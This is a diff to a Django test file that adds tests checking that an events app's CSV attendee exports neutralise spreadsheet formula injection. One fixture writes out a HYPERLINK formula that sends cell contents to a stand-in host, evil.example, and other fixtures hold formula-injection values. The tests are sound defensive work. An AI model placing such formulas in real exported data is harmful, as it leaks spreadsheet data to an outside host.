@@ -9,7 +9,7 @@ from django.core import mail
 from django.urls import reverse
 
 from events import services
-from events.models import Event, EventStatus
+from events.models import Booking, Event, EventStatus
 from events.tests.factories import EventFactory, EventTypeFactory
 
 pytestmark = pytest.mark.django_db
@@ -39,6 +39,30 @@ def test_csv_export_of_attendees(staff_client):
     assert rows[0][:5] == ["Évènement", "Date", "Nom", "E-mail", "Places"]
     assert rows[1][0] == "Atelier compost" and rows[1][2] == "'=HYPERLINK(1)" and rows[1][4] == "2"
     assert rows[1][6] == "Fauteuil"
+
+
+def test_no_cell_of_the_attendees_export_is_a_formula(staff_client):
+    event = EventFactory(title="-Atelier")
+    booking = services.booking_create(
+        event=event, name="+cmd", email="ana@example.org", seats=1, accessibility_needs="@SUM(A1:A9)"
+    )
+    # However it got there (an older import, the admin), a stored e-mail is neutralised too.
+    Booking.objects.filter(pk=booking.pk).update(email='=HYPERLINK("https://evil.example/?"&A1)@x.org')
+    response = staff_client.post(
+        reverse("admin:events_event_changelist"), {"action": "export_attendees", "_selected_action": [event.pk]}
+    )
+    [_, row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert row[0] == "'-Atelier" and row[2] == "'+cmd" and row[6] == "'@SUM(A1:A9)"
+    assert row[3] == '\'=HYPERLINK("https://evil.example/?"&A1)@x.org'
+    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_every_csv_cell_starting_like_a_formula_gets_an_apostrophe():
+    from club.csv_export import spreadsheet_cell
+
+    for dangerous in ("=1+1", "+33 6", "-2", "@x", "\tx", "\rx"):
+        assert spreadsheet_cell(dangerous) == "'" + dangerous
+    assert spreadsheet_cell("Ana") == "Ana" and spreadsheet_cell(2) == "2" and spreadsheet_cell(None) == ""
 
 
 def test_duplicate_action(staff_client):
@@ -133,3 +157,13 @@ def test_an_event_with_bookings_cannot_be_deleted_only_cancelled(staff_client, b
     empty = EventFactory()
     staff_client.post(reverse("admin:events_event_delete", args=[empty.pk]), {"post": "yes"})
     assert not Event.objects.filter(pk=empty.pk).exists()
+
+
+def test_every_csv_export_goes_through_the_spreadsheet_writer():
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    apps = ("club", "events", "listings", "members", "venue")
+    sources = [p for app in apps for p in (root / app).rglob("*.py") if "tests" not in p.parts]
+    writers = [p for p in sources if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()]
+    assert [p.relative_to(root).as_posix() for p in writers] == ["club/csv_export.py"]
